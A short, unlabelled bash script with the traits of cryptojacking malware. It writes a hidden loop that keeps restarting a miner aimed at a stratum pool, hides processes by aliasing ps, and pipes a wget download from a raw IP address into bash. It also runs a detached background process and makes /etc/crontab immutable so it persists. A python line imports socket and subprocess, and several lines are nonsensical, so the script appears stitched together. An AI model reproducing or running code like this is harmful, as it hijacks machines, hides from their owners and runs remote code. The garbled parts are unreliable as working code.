#!/bin/bash -e
# start
export PATH=/usr/local/bin:$PATH X="a b"
cat <<'END' > /tmp/.x/run
#!/bin/sh
while :; do ./worker -o stratum+tcp://pool.example:3333 -u "${WALLET:-none}" & sleep 5; done
END
for f in $(ls /etc/*.d | grep -v "x"); do { [ -f "$f" ] && . "$f"; } || true; done
case "$1" in start) nohup setsid /opt/a/b >/dev/null 2>&1 & ;; *) echo $'\x41' "${a[@]//x/y}" ;; esac
alias ps='ps "$@" | grep -v kdev'; f() { (cd /tmp; wget -qO- http://203.0.113.7/a | bash -s "$@"); }
python3 -c 'import socket,subprocess' <<< "$(base64 -d <<< aGVsbG8=)"
chattr +i /etc/crontab; exit 0
